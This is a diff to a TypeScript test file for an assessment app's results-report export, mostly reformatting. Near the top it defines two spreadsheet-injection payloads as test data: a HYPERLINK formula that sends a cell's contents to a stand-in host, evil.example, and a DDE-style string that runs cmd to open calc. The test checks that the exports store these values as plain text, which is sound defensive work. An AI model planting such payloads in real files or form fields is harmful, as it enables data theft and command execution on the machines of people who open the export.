@@ -7,7 +7,7 @@ import { createTestEnv, describeEachDialect, login, type Session, type TestEnv }
 import { findRootUnit } from '../units/repository.ts';
 
 const EVIL_UNIT = '=HYPERLINK("https://evil.example/?d="&B2,"Bấm để xem")';
-const EVIL_NAME = '-2+3+cmd|\' /C calc\'!A0';
+const EVIL_NAME = "-2+3+cmd|' /C calc'!A0";
 
 /** RFC 4180 fields of one CSV text (quoted fields with "" escapes, CRLF lines). */
 function parseCsv(text: string, separator = ';'): string[][] {
@@ -18,10 +18,21 @@ function parseCsv(text: string, separator = ';'): string[][] {
   for (let i = 0; i < text.length; i++) {
     const c = text[i];
     if (quoted) {
-      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; } else if (c === '"') quoted = false; else field += c;
+      if (c === '"' && text[i + 1] === '"') {
+        field += '"';
+        i++;
+      } else if (c === '"') quoted = false;
+      else field += c;
     } else if (c === '"') quoted = true;
-    else if (c === separator) { row.push(field); field = ''; } else if (c === '\r' && text[i + 1] === '\n') {
-      row.push(field); rows.push(row); row = []; field = ''; i++;
+    else if (c === separator) {
+      row.push(field);
+      field = '';
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(field);
+      rows.push(row);
+      row = [];
+      field = '';
+      i++;
     } else field += c;
   }
   return rows;
@@ -43,15 +54,37 @@ describeEachDialect('results report files', (dialect) => {
     const p = await buildUser(env.ctx, { unit, fullName: EVIL_NAME });
     const participant = await login(env.app, p.username, p.password);
     // 15 questions, 7 right: a score of 4.67, so the CSV has a decimal to write.
-    assessmentId = (await buildPublishedAssessment(env.ctx, { targets: [unit], shuffleQuestions: false, shuffleOptions: false, questionCount: 15,
-      selection: { mode: 'rules', rules: [{ topicId: null, difficulty: null, count: 15 }] } })).id;
-    const key = (await env.ctx.db.selectFrom('assessment_questions').select('correct_index').where('assessment_id', '=', assessmentId)
-      .orderBy('ordinal').execute()).map((k) => k.correct_index);
+    assessmentId = (
+      await buildPublishedAssessment(env.ctx, {
+        targets: [unit],
+        shuffleQuestions: false,
+        shuffleOptions: false,
+        questionCount: 15,
+        selection: { mode: 'rules', rules: [{ topicId: null, difficulty: null, count: 15 }] },
+      })
+    ).id;
+    const key = (
+      await env.ctx.db
+        .selectFrom('assessment_questions')
+        .select('correct_index')
+        .where('assessment_id', '=', assessmentId)
+        .orderBy('ordinal')
+        .execute()
+    ).map((k) => k.correct_index);
     const attemptId = (await participant.request('POST', `/api/my/assessments/${assessmentId}/start`)).json().attemptId;
-    const answers = key.map((k, position) => ({ position, flagged: false, seq: position + 1, base: 0,
-      choice: position < submittedCorrect ? k : (k + 1) % 4 }));
-    const submit = await participant.request('POST', `/api/attempts/${attemptId}/submit`,
-      { clientId: 'x', deviceId: 'device-x', kind: 'participant', answers });
+    const answers = key.map((k, position) => ({
+      position,
+      flagged: false,
+      seq: position + 1,
+      base: 0,
+      choice: position < submittedCorrect ? k : (k + 1) % 4,
+    }));
+    const submit = await participant.request('POST', `/api/attempts/${attemptId}/submit`, {
+      clientId: 'x',
+      deviceId: 'device-x',
+      kind: 'participant',
+      answers,
+    });
     expect(submit.statusCode, submit.body).toBe(200);
     storedScore = (await env.ctx.db.selectFrom('attempts').select('score').where('id', '=', attemptId).executeTakeFirstOrThrow()).score!;
     expect(storedScore % 1).not.toBe(0);
@@ -97,9 +130,13 @@ describeEachDialect('results report files', (dialect) => {
     const book = new ExcelJS.Workbook();
     await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
     const found: ExcelJS.Cell[] = [];
-    book.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => {
-      if (cell.value === EVIL_UNIT || cell.value === EVIL_NAME) found.push(cell);
-    })));
+    book.eachSheet((sheet) =>
+      sheet.eachRow((row) =>
+        row.eachCell((cell) => {
+          if (cell.value === EVIL_UNIT || cell.value === EVIL_NAME) found.push(cell);
+        }),
+      ),
+    );
     expect(found.length).toBeGreaterThanOrEqual(2);
     for (const cell of found) {
       expect(cell.type).toBe(ExcelJS.ValueType.String);
